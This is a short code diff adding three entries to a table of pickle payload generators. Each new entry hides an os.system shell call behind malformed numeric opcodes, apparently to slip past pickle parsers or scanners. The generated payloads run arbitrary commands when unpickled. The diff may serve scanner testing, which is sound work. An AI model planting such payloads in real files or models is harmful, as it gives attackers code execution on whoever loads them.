@@ -144,6 +144,13 @@ OPCODES: dict[str, tuple[Payload, bool]] = {
         False,
     ),
     "proto-twice": (lambda c: b"\x80\x02" + whole(called(named("os", "system"), text(shell(c)))), True),
+    "integer-of-base-16": (lambda c: b"I0x1\n0" + called(named("os", "system"), text(shell(c))) + b".", True),
+    "number-that-ends-at-a-zero-byte": (
+        lambda c: b"N" + b"p0\x00so\n0" + called(named("os", "system"), text(shell(c))) + b".", True),
+    "integer-of-5000-digits": (
+        lambda c: b"\x8b" + struct.pack("<i", 2100) + b"\x7f" * 2100 + b"0" + called(named("os", "system"), text(shell(c))) + b".",
+        True,
+    ),
     "no-proto": (lambda c: called(named("os", "system"), text(shell(c))) + b".", True),
 }  # fmt: skip
 
